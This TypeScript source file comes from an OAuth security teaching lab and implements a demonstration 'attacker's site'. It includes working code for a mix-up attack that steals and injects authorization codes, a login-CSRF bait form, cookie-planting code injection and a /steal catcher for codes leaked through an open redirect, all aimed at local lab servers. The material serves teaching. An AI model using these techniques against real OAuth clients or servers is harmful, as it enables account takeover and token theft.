// The attacker's web site (npm run evil, npm run attack <name> -- --browser): black pages on
// port 9666 (EVIL_PORT), beside a lab version it runs in this same process on the lab's usual
// ports, so an instructor can show each attack in a browser, and switch the lab between the
// version before the fix and the fix with one button.
//
// The site is the attacker's, so it does what an attacker's site can: send the victim's
// browser to a link, auto-post a form to another site, set cookies for localhost (cookies
// ignore ports). The steps that need no victim's browser run here, on the attacker's "tools":
// the same code as `npm run attack`, narrated on the page instead of in a terminal.

import path from 'node:path';
import { fileURLToPath } from 'node:url';
import express, { type NextFunction, type Request, type Response } from 'express';
import { portFromVariable, portsFromEnv, urlFor, type AppRole } from '../../../shared/config.ts';
import type { RunningLab, StartLabOptions } from '../../../shared/lab.ts';
import { closeServer, listen, LOOPBACK, portOf } from '../../../shared/listen.ts';
import { attacks } from '../../attack.ts';
import { findVersion, listVersions } from '../../versions.mjs';
import { Browser } from '../browser.ts';
import { beforeAndFix, startVersion, versionNumber } from '../lab.ts';
import { attackersOwnLogin, injectStolenCode, startMixUp, type MixUp } from '../mixup-client.ts';
import { stages, type MixUpView, type Stage, type Step } from './stages.ts';

export const EVIL_PORT = 9666;

/** The port of the attacker's site: EVIL_PORT when set, else 9666. */
export const evilPortFromEnv = (env: NodeJS.ProcessEnv = process.env) =>
  portFromVariable('EVIL_PORT', EVIL_PORT, env);

export interface EvilOptions {
  /** The version the lab starts with (a folder name or a prefix such as 'v02'). */
  version: string;
  /** The site's port; default EVIL_PORT or 9666, 0 for a free one. */
  port?: number;
  /** The lab's ports, as startLab takes them; default: the lab's usual ones (env, 9000…). */
  labPorts?: StartLabOptions['ports'];
}

export interface EvilSite {
  url: string;
  /** The lab it runs now, and its version folder. */
  lab(): RunningLab<'as' | 'client'>;
  version(): string;
  /** Stop the lab and start `version` on the same ports. */
  switchTo(version: string): Promise<void>;
  close(): Promise<void>;
}

/** What the attacker's catcher received: every request the AS ever redirected here. */
interface Caught {
  at: string;
  params: Array<[string, string]>;
}

/** The version before a fix and the fix, for the switch buttons of an attack's page. */
const pairOf = (fixedIn: string) =>
  beforeAndFix(fixedIn).map((version) => ({
    version,
    label: versionNumber(version) < versionNumber(fixedIn) ? 'before the fix' : 'the fix',
  }));

/** The versions an attack works against, for the index: 'v03–v06', 'v01' or '—'. */
function worksIn(firstWith: string, fixedIn: string): string {
  const [first, last] = [versionNumber(firstWith), versionNumber(fixedIn) - 1];
  const name = (n: number) => `v${String(n).padStart(2, '0')}`;
  return last < first ? '—' : first === last ? name(first) : `${name(first)}–${name(last)}`;
}

const views = path.join(path.dirname(fileURLToPath(import.meta.url)), 'views');

export async function startEvil(options: EvilOptions): Promise<EvilSite> {
  const labPorts = options.labPorts ?? portsFromEnv();
  const first = findVersion(options.version);
  if (!first) throw new Error(`There is no version called "${options.version}".`);
  let version: string = first;
  let lab = await startVersion(version, { ports: labPorts });
  const caught: Caught[] = [];

  // The mix-up's stage, for the version the lab runs, and the attacker's own login at its
  // client: started when the attack's page is first opened, closed when the lab switches.
  let mixUp:
    | { version: string; stage: MixUp; attacker: Browser; state: string; challenge: string }
    | undefined;
  async function mixUpStage(): Promise<MixUpView> {
    let current = mixUp;
    if (current?.version !== version) {
      await current?.stage.close();
      const stage = await startMixUp(version);
      current = mixUp = { version, stage, ...(await attackersOwnLogin(stage)) };
    }
    const { stage, challenge } = current;
    return {
      client: stage.client.url,
      honest: stage.honest.urls.as,
      hostile: stage.hostile.url,
      challenge,
    };
  }
  async function closeMixUp() {
    await mixUp?.stage.close();
    mixUp = undefined;
  }

  // One thing at a time against the lab: a run never meets a lab that is being switched.
  let queue: Promise<unknown> = Promise.resolve();
  function exclusive<T>(work: () => Promise<T>): Promise<T> {
    const next = queue.then(work, work);
    queue = next.catch(() => {});
    return next;
  }

  const server = await listen(
    { name: 'attacker’s site', variable: 'EVIL_PORT', usualCulprit: 'another npm run evil?' },
    options.port ?? evilPortFromEnv(),
  ).catch(async (err: unknown) => {
    await lab.close(); // nothing left running when the site cannot start
    throw err;
  });
  const url = urlFor(portOf(server));

  const site: EvilSite = {
    url,
    lab: () => lab,
    version: () => version,
    switchTo: (requested) =>
      exclusive(async () => {
        const next = findVersion(requested);
        if (!next) throw new Error(`There is no version called "${requested}".`);
        await closeMixUp();
        await lab.close();
        lab = await startVersion(next, { ports: labPorts });
        version = next;
      }),
    async close() {
      await exclusive(async () => {
        await closeMixUp();
        await lab.close();
      });
      await closeServer(server);
    },
  };

  const app = express();
  app.set('view engine', 'ejs');
  app.set('views', views);
  app.disable('x-powered-by');
  app.use(express.urlencoded({ extended: false, limit: '4kb' }));
  app.use((req, res, next) => {
    res.set('Cache-Control', 'no-store');
    // Its buttons restart the lab and run attacks: a form posted from another page (another
    // localhost port is the same site) must not. Browsers name the page in Origin.
    const own = [url, `http://${LOOPBACK}:${portOf(server)}`];
    if (req.method === 'POST' && req.headers.origin && !own.includes(req.headers.origin)) {
      res.status(403).render('error', { message: 'Only this site’s own buttons can do that.' });
      return;
    }
    next();
  });

  /** A lab URL for a step's href: 'client:/login' → http://localhost:9000/login. */
  const resolve = (href: string) => {
    const match = /^(client|as|rs|agent):(\/.*)$/.exec(href);
    const urls = lab.urls as Record<string, string>;
    return match ? `${urls[match[1]!]}${match[2]}` : href;
  };

  /** The parties' pages worth opening after an attack, in the lab that runs now. */
  const watchOf = (stage: Stage) =>
    stage.watch
      .filter(({ role }) => role in lab.urls)
      .map((page) => ({ ...page, href: resolve(`${page.role}:${page.path}`) }));

  /** What every page shows at its top: the lab, its apps, and the version switch. */
  const frame = (attack?: { fixedIn: string }) => ({
    version,
    versions: listVersions(),
    pair: attack ? pairOf(attack.fixedIn) : [],
    apps: (['client', 'as', 'rs', 'agent'] as AppRole[])
      .filter((role) => role in lab.urls)
      .map((role) => ({ role, href: (lab.urls as Record<string, string>)[role]! })),
  });

  const attackOf = (req: Request) => {
    const name = String(req.params.name);
    return Object.hasOwn(attacks, name) && Object.hasOwn(stages, name)
      ? { name, attack: attacks[name]!, stage: stages[name]! }
      : undefined;
  };

  app.get('/', (_req, res) => {
    res.render('index', {
      ...frame(),
      attacks: Object.entries(attacks).map(([name, attack]) => ({
        name,
        summary: attack.summary,
        fixedIn: attack.fixedIn,
        worksIn: worksIn(stages[name]!.firstWith, attack.fixedIn),
      })),
    });
  });

  /** Where the lab stands against an attack: nothing to attack, before the fix, or fixed. */
  const standing = (stage: Stage, fixedIn: string) =>
    versionNumber(version) < versionNumber(stage.firstWith)
      ? 'absent'
      : versionNumber(version) < versionNumber(fixedIn)
        ? 'before'
        : 'fixed';

  app.get('/attacks/:name', async (req, res, next) => {
    const found = attackOf(req);
    if (!found) return next();
    const { name, attack, stage } = found;
    const steps: Step[] = await exclusive(() =>
      stage.steps({ lab, version, evil: url, mixUp: mixUpStage }),
    );
    res.render('attack', {
      ...frame(attack),
      name,
      attack,
      stage,
      standing: standing(stage, attack.fixedIn),
      steps: steps.map((step) =>
        step.action
          ? { ...step, action: { ...step.action, href: resolve(step.action.href) } }
          : step,
      ),
      watch: watchOf(stage),
    });
  });

  app.post('/attacks/:name/run', async (req, res, next) => {
    const found = attackOf(req);
    if (!found) return next();
    const { name, attack, stage } = found;
    const said: string[] = [];
    const worked = await exclusive(() => attack.run(lab, (line) => said.push(line), version));
    res.render('run', {
      ...frame(attack),
      name,
      attack,
      said,
      outcome: worked === 'n/a' ? 'n/a' : worked ? 'works' : 'refused',
      watch: watchOf(stage),
    });
  });

  // mix-up: the attacker takes the code the hostile AS received and opens the callback of
  // their own login at the stage's client with it, as `npm run attack mix-up` does.
  app.post('/attacks/mix-up/cash-in', async (_req, res) => {
    const said: string[] = [];
    const outcome = await exclusive(async () => {
      if (!mixUp || mixUp.version !== version) {
        said.push('There is no stage for this version yet: open the attack’s page first.');
        return 'pending';
      }
      const { stage } = mixUp;
      const stolen = stage.hostile.tokenRequests.at(-1)?.form;
      if (!stolen?.code) {
        if (stage.hostile.forwarded.length === 0) {
          said.push('Nobody has logged in with the hostile AS yet: do the victim’s step first.');
          return 'pending';
        }
        if (versionNumber(version) < versionNumber(attacks['mix-up']!.fixedIn)) {
          said.push(
            'The victim went to the hostile AS, but the client has not brought it a code yet: ' +
              'finish the victim’s login (log in, allow) first.',
          );
          return 'pending';
        }
        said.push(
          `The hostile AS sent ${stage.hostile.forwarded.length} browser(s) on to the honest AS, ` +
            'and no client has brought it a code. Once the victim finished logging in, the ' +
            'client refused the callback: the honest AS named itself in iss, and that login went ' +
            'to the hostile AS.',
        );
        return 'refused';
      }
      said.push(
        `The client brought the victim’s code to the hostile AS’s /token: code=${stolen.code}.`,
      );
      const { page, redeemed, owner } = await injectStolenCode(stage, mixUp, stolen.code);
      said.push(
        'The attacker opens the callback of their own login with it (and iss naming the honest ' +
          `AS, which is public): ${page.status}.`,
      );
      // A fresh login for the next try: a login's state is taken once.
      stage.hostile.tokenRequests.length = 0;
      stage.hostile.forwarded.length = 0;
      Object.assign(mixUp, await attackersOwnLogin(stage));
      if (owner) {
        said.push(
          'The client redeems it at the honest AS with the verifier of the attacker’s login, ' +
            'which fits the challenge the hostile AS planted: the attacker is signed in at the ' +
            `client with ${owner.username}’s tokens.`,
        );
        return 'works';
      }
      said.push(
        redeemed
          ? `The honest AS refuses it: ${redeemed.status} ${String(redeemed.body.error)} (a code lives 60 s).`
          : 'The client does not redeem it.',
      );
      return 'refused';
    });
    res.render('run', {
      ...frame(attacks['mix-up']!),
      name: 'mix-up',
      attack: attacks['mix-up']!,
      said,
      outcome,
      watch: [],
      cashIn: true,
    });
  });

  // login-csrf-as: the page that posts the AS's login form, with the attacker's password.
  app.get('/attacks/login-csrf-as/bait', (_req, res) => {
    res.render('bait', {
      action: `${lab.urls.as}/login`,
      fields: { username: 'user1', password: 'password1' },
    });
  });

  // code-injection: start a login at the client, give this browser its cookie, and open the
  // client's callback with that login's state and the victim's code.
  app.get('/attacks/code-injection/inject', async (req, res) => {
    const code = typeof req.query.code === 'string' ? req.query.code : '';
    const iss = typeof req.query.iss === 'string' ? req.query.iss : undefined;
    if (!/^[\w-]{1,200}$/.test(code)) {
      res.status(400).render('error', {
        message: 'No code to inject: open the attack’s page first.',
      });
      return;
    }
    const attacker = new Browser();
    const login = await attacker.get(`${lab.urls.client}/login`);
    const state = login.location ? new URL(login.location).searchParams.get('state') : null;
    const callback = new URL('/callback', lab.urls.client);
    callback.searchParams.set('code', code);
    if (state) callback.searchParams.set('state', state);
    if (iss) callback.searchParams.set('iss', iss);
    for (const [name, value] of attacker.cookies) {
      // The value as the client set it (already encoded): res.cookie() would encode it again.
      res.append('Set-Cookie', `${name}=${value}; Path=/; HttpOnly; SameSite=Lax`);
    }
    res.redirect(303, callback.href);
  });

  // open-redirect: the attacker's catcher, where a loose AS would send the victim with a code.
  app.get('/steal', (req, res) => {
    const params = Object.entries(req.query)
      .filter((entry): entry is [string, string] => typeof entry[1] === 'string')
      .map(([name, value]) => [name.slice(0, 100), value.slice(0, 500)] as [string, string]);
    if (params.length > 0) caught.unshift({ at: new Date().toISOString(), params });
    caught.splice(20);
    res.render('steal', { ...frame(), caught });
  });

  app.post('/lab', async (req, res) => {
    const requested = typeof req.body?.version === 'string' ? req.body.version : '';
    const back = typeof req.body?.back === 'string' && /^\/(?!\/)[\w/-]*$/.test(req.body.back);
    if (!findVersion(requested)) {
      res.status(400).render('error', { message: 'There is no such version.' });
      return;
    }
    await site.switchTo(requested);
    res.redirect(303, back ? req.body.back : '/');
  });

  app.use((_req, res) => {
    res.status(404).render('error', { message: 'The attacker has no such page.' });
  });
  app.use((err: Error, _req: Request, res: Response, _next: NextFunction) => {
    console.error(err);
    res.status(500).render('error', { message: `That did not work: ${err.message}` });
  });

  server.on('request', app);
  return site;
}
